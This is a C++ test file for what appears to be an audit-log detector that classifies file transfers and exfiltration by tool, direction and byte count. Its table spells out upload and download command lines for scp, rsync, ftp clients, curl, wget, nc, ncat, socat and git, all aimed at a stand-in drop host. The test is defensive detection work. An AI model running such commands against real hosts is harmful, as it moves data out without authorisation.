#include "host_with_cron.hpp"

/// Transfer-tools' tables 1a and 1b, a row a case: a tool's arguments and calls, what it is called,
/// which way, how much. Sizes are those of the tables, files smaller.
namespace auexfil::test {
namespace {

struct Row {
  std::string what;
  std::string exe;
  std::vector<std::string> argv;
  /// The helper that owns the socket (ssh), or empty.
  std::vector<std::string> helper;
  int port = 22;
  /// Calls on the (last) connection: name, bytes, times. The first is a small one.
  std::vector<std::tuple<std::string, std::int64_t, int>> calls;
  int data_port = 0;  ///< ftp: a second connection; -20: accepted from port 20
  std::string tool;
  std::string direction;
  /// The same where reads are not audited: what remains to be known.
  std::string without_reads;
};

std::vector<std::string> sftp() { return CronHost::sftp_argv(kDrop); }

std::vector<Row> rows() {
  const std::string drop = kDrop;
  const std::vector<std::tuple<std::string, std::int64_t, int>> ssh_up = {
      {"write", 41, 1}, {"write", 32804, 10}, {"read", 60, 20}};
  const std::vector<std::tuple<std::string, std::int64_t, int>> ssh_down = {
      {"write", 41, 1}, {"write", 100, 50}, {"read", 262144, 10}};
  const auto sent = [](std::string call, std::int64_t piece) {
    return std::vector<std::tuple<std::string, std::int64_t, int>>{
        {"write", 30, 1}, {call, piece, 12}, {"read", 40, 3}};
  };
  const auto got = [](std::string call, std::int64_t piece) {
    return std::vector<std::tuple<std::string, std::int64_t, int>>{
        {"write", 90, 1}, {call, piece, 12}};
  };
  return {
      // 1a: uploads
      {"scp", "/usr/bin/scp", {"scp", "f", drop + ":p"}, sftp(), 22, ssh_up, 0, "scp", "out", "out"},
      {"scp -O", "/usr/bin/scp", {"scp", "-O", "f", drop + ":p"},
       {"ssh", "-x", "--", drop, "scp -t p"}, 22, ssh_up, 0, "scp", "out", "out"},
      {"sftp -b", "/usr/bin/sftp", {"sftp", "-b", "F", drop}, sftp(), 22, ssh_up, 0, "sftp", "out",
       "out"},
      {"sftp -B 4096", "/usr/bin/sftp", {"sftp", "-B", "4096", "-b", "F", drop}, sftp(), 22,
       {{"write", 41, 1}, {"write", 4164, 60}, {"read", 40, 60}}, 0, "sftp", "out", "out"},
      {"ssh cat", "/usr/bin/ssh", {"ssh", drop, "cat > f"}, {}, 22, ssh_up, 0, "ssh", "out", "out"},
      {"tar | ssh", "/usr/bin/ssh", {"ssh", drop, "tar xf -"}, {}, 22,
       {{"write", 41, 1}, {"write", 10276, 30}}, 0, "ssh", "out", "out"},
      {"rsync over ssh", "/usr/bin/rsync", {"rsync", "f", drop + ":p"},
       {"ssh", drop, "rsync", "--server", "-logDtpre.iLsfxCIvu", ".", "p"}, 22, ssh_up, 0, "rsync",
       "out", "out"},
      {"rsync daemon", "/usr/bin/rsync", {"rsync", "f", "rsync://" + drop + "/m"}, {}, 873,
       {{"write", 14, 1}, {"write", 32776, 10}, {"read", 8, 20}}, 0, "rsync", "out", "out"},
      {"rsync daemon ::", "/usr/bin/rsync", {"rsync", "f", drop + "::m"}, {}, 873,
       {{"write", 14, 1}, {"write", 32776, 10}, {"read", 8, 20}}, 0, "rsync", "out", "out"},
      {"tnftp", "/usr/bin/tnftp", {"ftp", "-n", drop}, {}, 21, sent("write", 16384), 40000, "ftp",
       "out", "out"},
      {"tnftp -u", "/usr/bin/tnftp", {"ftp", "-u", "ftp://" + drop + "/f", "f"}, {}, 21,
       sent("write", 16384), 40000, "ftp", "out", "out"},
      {"tnftp -A", "/usr/bin/tnftp", {"ftp", "-A", "-n", drop}, {}, 21, sent("write", 16384), -20,
       "ftp", "out", "out"},
      {"inetutils-ftp", "/usr/bin/inetutils-ftp", {"ftp", "-n", drop}, {}, 21, sent("write", 4096),
       -20, "ftp", "out", "out"},
      {"lftp ftp", "/usr/bin/lftp", {"lftp", "-e", "put f; quit", drop}, {}, 21,
       sent("write", 65536), 40000, "lftp", "out", "out"},
      {"lftp ftps", "/usr/bin/lftp", {"lftp", "-f", "script"}, {}, 21, sent("sendmsg", 16406),
       40000, "lftp", "out", "out"},
      {"lftp sftp", "/usr/bin/lftp", {"lftp", "-c", "put f", "sftp://" + drop},
       {"ssh", "-a", "-x", "-s", "-l", "u", drop, "sftp"}, 22, ssh_up, 0, "lftp", "out", "out"},
      {"ncftpput", "/usr/bin/ncftpput", {"ncftpput", "-u", "u", "-p", "x", drop, "d", "f"}, {}, 21,
       sent("sendfile", 600'000), 40000, "ncftpput", "out", "out"},
      {"busybox ftpput", "/usr/bin/busybox",
       {"busybox", "ftpput", "-u", "u", "-p", "x", drop, "r", "l"}, {}, 21,
       {{"write", 12, 1}, {"sendfile", 8'388'608, 1}}, 40000, "ftpput", "out", "out"},
      {"python ftplib", "/usr/bin/python3.11", {"python3", "-c", "import ftplib"}, {}, 21,
       sent("sendto", 8192), 40000, "other", "out", "out"},
      {"perl Net::FTP", "/usr/bin/perl", {"perl", "-e", "use Net::FTP"}, {}, 21,
       sent("write", 10240), -20, "other", "out", "out"},
      {"paramiko", "/usr/bin/python3.11", {"python3", "up.py"}, {}, 22,
       {{"sendto", 24, 1}, {"sendto", 32768, 8}, {"sendto", 144, 8}, {"read", 60, 9}}, 0, "other",
       "out", "out"},
      {"curl -T", "/usr/bin/curl", {"curl", "-T", "f", "http://" + drop + "/f"}, {}, 80,
       sent("sendto", 65536), 0, "curl", "out", "out"},
      {"curl -F", "/usr/bin/curl", {"curl", "-F", "x=@f", "http://" + drop + "/f"}, {}, 80,
       sent("sendto", 65536), 0, "curl", "out", "out"},
      {"curl --data-binary @", "/usr/bin/curl",
       {"curl", "--data-binary", "@f", "https://" + drop + "/f"}, {}, 443, sent("sendto", 16406), 0,
       "curl", "out", "out"},
      {"curl -K -", "/usr/bin/curl", {"curl", "-sS", "-K", "-"}, {}, 443, sent("sendto", 16406), 0,
       "curl", "out", "out"},
      {"curl sftp", "/usr/bin/curl", {"curl", "-T", "f", "sftp://" + drop + "/f"}, {}, 22,
       {{"sendto", 22, 1}, {"sendto", 30080, 8}, {"sendto", 5616, 8}}, 0, "curl", "out", "out"},
      {"wget --post-file", "/usr/bin/wget", {"wget", "--post-file=f", "http://" + drop + "/"}, {},
       80, sent("write", 8192), 0, "wget", "out", "out"},
      {"wget --method=PUT", "/usr/bin/wget",
       {"wget", "--method=PUT", "--body-file=f", "https://" + drop + "/"}, {}, 443,
       sent("sendmsg", 8214), 0, "wget", "out", "out"},
      {"nc", "/usr/bin/nc.openbsd", {"nc", "-N", drop, "9000"}, {}, 9000, sent("write", 16384), 0,
       "nc", "out", "out"},
      {"busybox nc", "/usr/bin/busybox", {"nc", drop, "9000"}, {}, 9000, sent("write", 1024), 0,
       "nc", "out", "out"},
      {"ncat", "/usr/bin/ncat", {"ncat", "--send-only", drop, "9000"}, {}, 9000,
       sent("sendto", 8192), 0, "nc", "out", "out"},
      {"socat", "/usr/bin/socat1", {"socat", "-u", "FILE:f", "TCP:" + drop + ":9000"}, {}, 9000,
       sent("write", 8192), 0, "socat", "out", "out"},
      {"python sendfile", "/usr/bin/python3.11", {"python3", "sf.py"}, {}, 9000,
       {{"sendto", 60, 1}, {"sendfile", 8'388'608, 1}}, 0, "other", "out", "out"},
      {"rclone", "/usr/bin/rclone", {"rclone", "copyto", "f", ":ftp,host=" + drop + ":p"}, {}, 21,
       sent("write", 65536), 40000, "rclone", "out", "out"},
      {"pscp", "/usr/bin/pscp", {"pscp", "f", "u@" + drop + ":p"}, {}, 22,
       {{"sendto", 28, 1}, {"sendto", 4176, 40}}, 0, "pscp", "out", "out"},
      {"psftp", "/usr/bin/psftp", {"psftp", "-b", "F", "u@" + drop}, {}, 22,
       {{"sendto", 28, 1}, {"sendto", 4176, 40}}, 0, "psftp", "out", "out"},
      {"dbclient", "/usr/bin/dbclient", {"dbclient", "u@" + drop, "cat > f"}, {}, 22,
       {{"write", 24, 1}, {"writev", 16420, 20}}, 0, "ssh", "out", "out"},
      {"git push", "/usr/bin/git", {"git", "push", "u@" + drop + ":repo", "main"},
       {"/usr/bin/ssh", "u@" + drop, "git-receive-pack 'repo'"}, 22, ssh_up, 0, "git", "out",
       "out"},
      {"openssl s_client", "/usr/bin/openssl", {"openssl", "s_client", "-connect", drop + ":443"},
       {}, 443, sent("write", 8214), 0, "openssl", "out", "out"},

      // 1b: downloads, and how many bytes they send
      {"scp get", "/usr/bin/scp", {"scp", drop + ":p", "f"}, sftp(), 22, ssh_down, 0, "scp", "in",
       "in"},
      {"sftp get", "/usr/bin/sftp", {"sftp", drop + ":p"}, sftp(), 22, ssh_down, 0, "sftp", "in",
       "in"},
      {"sftp -b get", "/usr/bin/sftp", {"sftp", "-b", "F", drop}, sftp(), 22, ssh_down, 0, "sftp",
       "in", "none"},
      {"scp -O get", "/usr/bin/scp", {"scp", "-O", drop + ":p", "f"},
       {"ssh", "-x", "--", drop, "scp -f p"}, 22, ssh_down, 0, "scp", "in", "in"},
      {"ssh cat", "/usr/bin/ssh", {"ssh", drop, "cat f"}, {}, 22, ssh_down, 0, "ssh", "in", "in"},
      {"rsync pull", "/usr/bin/rsync", {"rsync", drop + ":p", "f"},
       {"ssh", drop, "rsync", "--server", "--sender", "-logDtpre.iLsf", ".", "p"}, 22, ssh_down, 0,
       "rsync", "in", "in"},
      {"rsync daemon pull", "/usr/bin/rsync", {"rsync", "-a", drop + "::m/p", "f"}, {}, 873,
       {{"write", 14, 12}, {"read", 32768, 10}}, 0, "rsync", "in", "in"},
      {"ftp get", "/usr/bin/tnftp", {"ftp", "-n", drop}, {}, 21, got("read", 16384), 40000, "ftp",
       "in", "none"},
      {"ftp URL", "/usr/bin/tnftp", {"ftp", "-o", "f", "ftp://" + drop + "/f"}, {}, 21,
       got("read", 16384), 40000, "ftp", "in", "in"},
      {"ncftpget", "/usr/bin/ncftpget", {"ncftpget", drop, "d", "f"}, {}, 21, got("read", 16384),
       40000, "ncftpget", "in", "in"},
      {"curl get", "/usr/bin/curl", {"curl", "-o", "f", "http://" + drop + "/f"}, {}, 80,
       got("recvfrom", 102'400), 0, "curl", "in", "in"},
      {"wget get", "/usr/bin/wget", {"wget", "http://" + drop + "/f"}, {}, 80, got("read", 8192), 0,
       "wget", "in", "in"},
      {"aria2c", "/usr/bin/aria2c", {"aria2c", "http://" + drop + "/f"}, {}, 80,
       got("recvfrom", 16384), 0, "aria2", "in", "in"},
      {"paramiko get", "/usr/bin/python3.11", {"python3", "get.py"}, {}, 22,
       {{"sendto", 24, 1}, {"sendto", 100, 60}, {"recvfrom", 32816, 60}}, 0, "other", "in", "out"},
      {"pscp get", "/usr/bin/pscp", {"pscp", "u@" + drop + ":p", "f"}, {}, 22,
       {{"sendto", 28, 1}, {"sendto", 300, 40}, {"recvfrom", 20480, 60}}, 0, "pscp", "in", "in"},
      {"git fetch", "/usr/bin/git", {"git", "fetch", "u@" + drop + ":repo"},
       {"/usr/bin/ssh", "u@" + drop, "git-upload-pack 'repo'"}, 22, ssh_down, 0, "git", "in", "in"},
  };
}

}  // namespace

TEST_CASE("tools: every row of the tables") {
  const bool reads = GENERATE(true, false);
  for (const Row& row : rows()) {
    INFO(row.what << (reads ? "" : ", reads not audited"));
    CronHost log;
    if (!reads) {
      log.audited = all_but({"read", "recvfrom"});
    }
    const int top = log.tool(row.exe, row.argv);
    const int owner = row.helper.empty() ? top : log.run(top, 1900, "/usr/bin/ssh", row.helper);
    log.socket(owner, 3);
    log.connect(owner, 3, kDrop, row.port, row.port == 22 ? 0 : -115);
    int fd = 3;
    std::uint64_t total = 0;
    if (row.data_port != 0) {
      log.write(owner, 3, 16);
      total += 16;
      fd = 5;
      if (row.data_port > 0) {
        log.tcp(owner, fd, kDrop, row.data_port, -115);
      } else {
        log.socket(owner, 4);
        log.bind(owner, 4, "192.0.2.1", 0);
        log.listen(owner, 4);
        log.accept(owner, 4, fd, kDrop, 20);
      }
    }
    for (const auto& [call, bytes, times] : row.calls) {
      for (int i = 0; i < times; ++i) {
        const auto n = static_cast<std::uint64_t>(bytes);
        if (call == "sendfile") {
          log.call(owner, call, bytes, {static_cast<std::uint64_t>(fd), 6, 0, n});
        } else {
          log.call(owner, call, bytes, {static_cast<std::uint64_t>(fd), 0x7f, n});
        }
        total += call == "read" || call == "recvfrom" ? 0 : n;
      }
    }
    log.done(owner, fd);
    log.sendto(CronHost::kCron, 9, 40, "127.0.0.1", 514);
    const auto facts = tell(log);
    REQUIRE(facts.size() == 1);
    const transfer::Fact& fact = facts[0];
    CHECK(fact.tool == row.tool);
    CHECK(fact.side == transfer::Side::client);
    CHECK(fact.process.pid == static_cast<std::uint32_t>(top));
    CHECK(fact.destinations.size() == 1);
    CHECK(sum(fact) ==
          (reads ? row.direction : row.without_reads) + " " + std::to_string(total) + " measured");
  }
}

}  // namespace auexfil::test
